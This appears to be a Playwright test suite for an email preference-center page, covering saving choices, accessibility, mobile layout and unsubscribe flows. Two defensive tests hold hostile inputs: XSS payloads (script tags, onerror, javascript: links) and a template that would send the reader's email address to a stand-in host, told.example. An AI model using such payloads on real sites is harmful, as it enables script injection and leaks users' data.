/*
 * The ready page in a real browser, with scripts switched off: opened, used with the mouse and with the
 * keyboard, on a wide screen and on a phone's.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { BrowserContextOptions, Page } from "playwright-core";
import { violationsIn } from "../../browser/accessibility.ts";
import { launchChromium, skipWithoutChromium as skip } from "../../browser/chromium.ts";
import { NEWSLETTER, startServer, type TestWorkspace } from "../../harness.ts";
import { emptyWorkspace, pageOf, stateOf } from "../../preference-center-calls.ts";

const CENTER = "6f0ae4ac-64a1-4d0f-9b38-8e3a1c4d5e61";
const PRODUCTS = "9b7e2f7c-9d77-4f34-8a6c-2a8b5c1d4e70";

const WIDE = { width: 1280, height: 800 };
const PHONE = { width: 360, height: 640 };

/** A workspace where Ada gets the newsletter and no product news. */
async function withAda(server: Awaited<ReturnType<typeof startServer>>) {
  const workspace = await emptyWorkspace(server, {
    subscription_groups: [
      { id: NEWSLETTER, name: "Newsletter", channel: "email" },
      { id: PRODUCTS, name: "Product news", channel: "email" },
    ],
    preference_centers: [{ id: CENTER, name: "main" }],
  });
  const subscribed = { subscription_group_id: NEWSLETTER, subscription_state: "subscribed" };
  await workspace.track({
    attributes: [
      { external_id: "ada", email: "ada@example.com", subscription_groups: [subscribed] },
    ],
  });
  return { workspace, url: server.url + (await pageOf(workspace, CENTER)) };
}

const statesOf = async (workspace: TestWorkspace) => [
  await stateOf(workspace, NEWSLETTER),
  await stateOf(workspace, PRODUCTS),
];

describe("the ready page in a browser without scripts", { skip }, async () => {
  if (skip) return;
  const server = await startServer();
  const browser = await launchChromium();

  /** Opens a page; the browser's refusals and failed loads go to `complaints`. */
  async function open(url: string, options: BrowserContextOptions = {}) {
    const context = await browser.newContext({
      javaScriptEnabled: false,
      viewport: WIDE,
      ...options,
    });
    const page = await context.newPage();
    const complaints: string[] = [];
    page.on("console", (message) => {
      // The header is for secure origins, which a test has none of.
      if (!message.text().includes("Cross-Origin-Opener-Policy")) complaints.push(message.text());
    });
    await page.goto(url);
    return { page, complaints };
  }

  const widthOf = (page: Page) => page.locator("html").evaluate((root) => root.scrollWidth);

  test("two choices on the ready page are saved and visible through the API", async () => {
    const { workspace, url } = await withAda(server);
    assert.deepEqual(await statesOf(workspace), ["Subscribed", "Unknown"]);
    const { page, complaints } = await open(url);
    const [newsletter, products] = [page.getByLabel("Newsletter"), page.getByLabel("Product news")];
    assert.deepEqual([await newsletter.isChecked(), await products.isChecked()], [true, false]);
    await newsletter.click();
    await products.click();
    await page.getByRole("button", { name: "Save my choices" }).click();
    assert.equal(
      await page.getByRole("heading", { level: 1 }).innerText(),
      "Your choices are saved",
    );
    assert.deepEqual(await statesOf(workspace), ["Unsubscribed", "Subscribed"]);
    await page.getByRole("link", { name: "Change something" }).click();
    assert.deepEqual([await newsletter.isChecked(), await products.isChecked()], [false, true]);
    assert.deepEqual(complaints, []);
  });

  test("the ready page can be used with the keyboard alone and shows the focus", async () => {
    const { workspace, url } = await withAda(server);
    const { page } = await open(url);
    await page.keyboard.press("Tab");
    const outline = await page
      .getByLabel("Newsletter")
      .evaluate((element) => (globalThis as any).getComputedStyle(element).outlineStyle);
    assert.equal(outline, "solid");
    await page.keyboard.press("Space");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Space");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await page.getByText("Your choices are saved").waitFor();
    assert.deepEqual(await statesOf(workspace), ["Unsubscribed", "Subscribed"]);
  });

  test("the ready page fits a phone without horizontal scrolling and has large touch targets", async () => {
    const { workspace, url } = await withAda(server);
    const { page } = await open(url, { viewport: PHONE, hasTouch: true, isMobile: true });
    assert.ok((await widthOf(page)) <= PHONE.width);
    for (const button of await page.locator("label, button").all()) {
      assert.ok(((await button.boundingBox())?.height ?? 0) >= 44);
    }
    await page.getByText("Product news").tap();
    await page.getByRole("button", { name: "Save my choices" }).tap();
    await page.getByText("Your choices are saved").waitFor();
    assert.ok((await widthOf(page)) <= PHONE.width);
    assert.deepEqual(await statesOf(workspace), ["Subscribed", "Subscribed"]);
  });

  /**
   * Looks for violations in a page's HTML, in a separate page: axe is a script, and pages allow
   * none.
   */
  async function openForAxe(options: BrowserContextOptions) {
    const page = await (await browser.newContext({ viewport: WIDE, ...options })).newPage();
    return async (html: string): Promise<string[]> => {
      await page.setContent(html);
      return violationsIn(page);
    };
  }

  const APPEARANCES: Record<string, BrowserContextOptions> = {
    "wide and light": {},
    "wide and dark": { colorScheme: "dark" },
    "a phone's, from right to left": { viewport: PHONE, locale: "ar" },
  };

  for (const [name, options] of Object.entries(APPEARANCES)) {
    test(`the ready page and its confirmation have no accessibility violations (${name})`, async () => {
      const { workspace, url } = await withAda(server);
      const brand = { company: "Acme", color: "#ffd400", color_dark: "#1a1a80" };
      const path = `/admin/v1/workspaces/${workspace.name}/settings`;
      await server.admin("PUT", path, { brand });
      const { page, complaints } = await open(url, options);
      const violationsOf = await openForAxe(options);
      assert.deepEqual(await violationsOf(await page.content()), []);
      assert.ok((await widthOf(page)) <= (options.viewport ?? WIDE).width);
      await page.getByRole("switch").first().click();
      await page.locator("form button").first().click();
      await page.locator("h2").waitFor();
      assert.deepEqual(await violationsOf(await page.content()), []);
      assert.equal(await stateOf(workspace, NEWSLETTER), "Unsubscribed");
      await page.locator("form button").click();
      await page.locator(".on").waitFor();
      assert.equal(await stateOf(workspace, NEWSLETTER), "Subscribed");
      await page.goto(`${server.url}/preferences/none`);
      assert.deepEqual(await violationsOf(await page.content()), []);
      assert.deepEqual(
        // The page is sandboxed: a browser complains of the scripts of this test.
        complaints.filter((each) => !/404|^Blocked script execution/.test(each)),
        [],
      );
    });
  }

  test("one click unsubscribes from all emails, and another one subscribes again", async () => {
    const { workspace, url } = await withAda(server);
    const emailState = async () =>
      (await workspace.profile({ external_ids: ["ada"] })).email_subscribe;
    const { page } = await open(url);
    await page.getByRole("button", { name: "Unsubscribe from all emails" }).click();
    await page.getByText("You will get no more emails from us.").waitFor();
    assert.equal(await emailState(), "unsubscribed");
    await page.getByRole("link", { name: "Change something" }).click();
    await page.getByRole("button", { name: "Receive emails again" }).click();
    await page.getByText("Your choices are saved").waitFor();
    assert.equal(await emailState(), "subscribed");
    assert.equal(await stateOf(workspace, NEWSLETTER), "Subscribed");
  });

  test("scripts in a page and in a value do not run, even in a browser with scripts enabled", async () => {
    const { workspace } = await withAda(server);
    const page_html = `<title>Before</title><script>document.title = "script"</script>
<p onclick="document.title = 'attribute'">{{\${first_name} | raw}}</p>
<a href="javascript:document.title = 'link'">link</a>`;
    await server.admin(
      "PUT",
      `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`,
      { name: "main", page_html },
    );
    const first_name = `<img src=x onerror="document.title = 'value'"><b>loud</b>`;
    await workspace.track({ attributes: [{ external_id: "ada", first_name }] });
    const url = server.url + (await pageOf(workspace, CENTER));
    const { page } = await open(url, { javaScriptEnabled: true });
    await page.getByText("loud").click();
    await page.getByText("link").click();
    assert.equal(await page.title(), "Before");
  });

  test("a refresh and pictures that Liquid writes send no other host the page's data about its reader", async () => {
    const { workspace } = await withAda(server);
    const path = `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`;
    const told = "https://told.example/?{{$" + "{email_address} | url_encode}}";
    const page_html = `<title>Choices</title><p>Here</p>
{% capture to %}${told}{% endcapture %}
{{ "<me" | append: "ta http-equiv='refresh' content='0;url=" | append: to | append: "'>" | raw }}
<style>@font-face { font-family: told; src: url("${told}") } p { font-family: told; background: url("${told}") }</style>
<img src="${told}" alt=""><svg><image href="${told}" /></svg>`;
    const { status, body } = await server.admin("PUT", path, { name: "main", page_html });
    assert.equal(status, 200, JSON.stringify(body));
    const url = server.url + (await pageOf(workspace, CENTER));
    for (const hosts of [[], ["told.example"]]) {
      const settings = { page_image_hosts: hosts };
      await server.admin("PUT", `/admin/v1/workspaces/${workspace.name}/settings`, settings);
      const { page } = await open("about:blank", { javaScriptEnabled: true });
      const asked = new Set<string>();
      await page.route("https://told.example/**", (route) => {
        asked.add(route.request().resourceType());
        return route.fulfill({ status: 200, contentType: "text/html", body: "told" });
      });
      await page.goto(url);
      assert.match(await page.content(), /http-equiv="?refresh/);
      await page.waitForTimeout(1_000);
      assert.equal(page.url(), url);
      // The same requests are seen where the workspace allows the host: the test can fail.
      assert.deepEqual([...asked].sort(), hosts.length === 0 ? [] : ["font", "image"]);
    }
  });

  test("saving the form redirects to the redirect URL of the preference center", async () => {
    const { workspace } = await withAda(server);
    const path = `/admin/v1/workspaces/${workspace.name}/preference-centers/${CENTER}`;
    // Another origin, which a browser asks the policy of the page for.
    const redirect_url = `${server.url.replace("127.0.0.1", "localhost")}/docs`;
    await server.admin("PUT", path, { name: "main", redirect_url });
    const { page } = await open(server.url + (await pageOf(workspace, CENTER)));
    await page.getByRole("button", { name: "Save my choices" }).click();
    await page.waitForURL(redirect_url);
  });
});
